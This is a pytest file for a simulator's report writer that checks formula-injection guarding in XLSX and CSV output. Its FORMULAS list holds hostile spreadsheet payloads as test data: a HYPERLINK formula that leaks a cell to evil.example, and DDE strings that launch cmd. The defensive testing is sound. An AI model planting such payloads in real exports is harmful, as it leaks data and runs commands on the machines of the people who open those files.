"""Workbooks and CSVs (issue 25): a text cell never becomes a spreadsheet formula —
names, labels and notes starting with ``= + - @``, a tab or a carriage return are
written as text (the workbook opened with openpyxl: string cells, Excel's quote prefix)
and guarded with an apostrophe in CSV; relsim reads its own CSVs back unchanged."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from simulator.cli import main
from simulator.report.rundir import formula_safe, unguard, write_xlsx

HOSTILE = Path(__file__).resolve().parents[1] / "hostile" / "project"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)",
    "\tSUM(1+1)",
    "\r=1+1",
    "'=already quoted",
]
PLAIN = ["motor maker", "-3", "+4.5", "1e3", "", "neutral"]


def test_formula_safe_guards_text_and_unguard_gives_it_back() -> None:
    df = pd.DataFrame({"text": FORMULAS + PLAIN, "n": range(len(FORMULAS) + len(PLAIN))})
    safe = formula_safe(df)
    for v in safe["text"][: len(FORMULAS)]:
        assert v.startswith("'"), v
    assert list(safe["text"][len(FORMULAS) :]) == PLAIN  # numbers and plain text unchanged
    assert list(safe["n"]) == list(df["n"])
    assert list(unguard(safe["text"])) == list(df["text"])


def test_workbook_cells_are_text_never_formulas(tmp_path: Path) -> None:
    df = pd.DataFrame({"name": FORMULAS + PLAIN, "value": [1.5] * (len(FORMULAS) + len(PLAIN))})
    cat = df.assign(name=df["name"].astype("category"))
    path = tmp_path / "t.xlsx"
    write_xlsx({"kpi_table": df, "regimes": cat}, path)
    wb = openpyxl.load_workbook(path)
    for sheet in ("kpi_table", "regimes"):
        ws = wb[sheet]
        for i, text in enumerate(FORMULAS + PLAIN, start=2):
            c = ws.cell(row=i, column=1)
            if text == "":
                continue
            assert c.data_type == "s", (sheet, text, c.data_type)
            assert c.value == text.replace("\r", "\n"), (c.value, text)  # XML: CR read as LF
            if text[:1] in "=+-@\t\r":
                assert c.quotePrefix, text
        assert all(ws.cell(row=i, column=2).data_type == "n" for i in range(2, 5))


@pytest.fixture(scope="module")
def formula_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    base = tmp_path_factory.mktemp("formula")
    for name in ("base.yaml", "n-formula.yaml"):
        (base / name).write_text((HOSTILE / name).read_text())
    out = base / "run"
    args = ["run", str(base / "n-formula.yaml"), "--reps", "2", "--workers", "1"]
    assert main([*args, "--quiet", "--xlsx", "--out", str(out)]) == 0
    return out


def test_a_run_with_formula_names_writes_no_formula(formula_run: Path) -> None:
    wb = openpyxl.load_workbook(formula_run / "tables.xlsx")
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str) and c.value[:1] in "=+-@\t":
                    assert c.quotePrefix, (ws.title, c.coordinate)
                    seen.add(c.value)
    assert "=SUM(1+1)*cmd|' /C calc'!A0" in seen and "@SUM(1+1)" in seen
    assert "+cmd|' /C calc'!A0" in seen and "\tSUM(1+1)" in seen
    for csv in formula_run.rglob("*.csv"):
        for line in csv.read_text().splitlines():
            for cell in line.split(","):
                assert not cell.startswith(("=", "+c", "@", "\t")), (csv.name, line)


def test_relsim_report_shows_the_names_as_written(formula_run: Path) -> None:
    assert main(["report", str(formula_run)]) == 0
    page = (formula_run / "report.html").read_text()
    assert "=SUM(1+1)*cmd|&#x27; /C calc&#x27;!A0" in page
    assert "'=SUM" not in page and "&#x27;=SUM" not in page
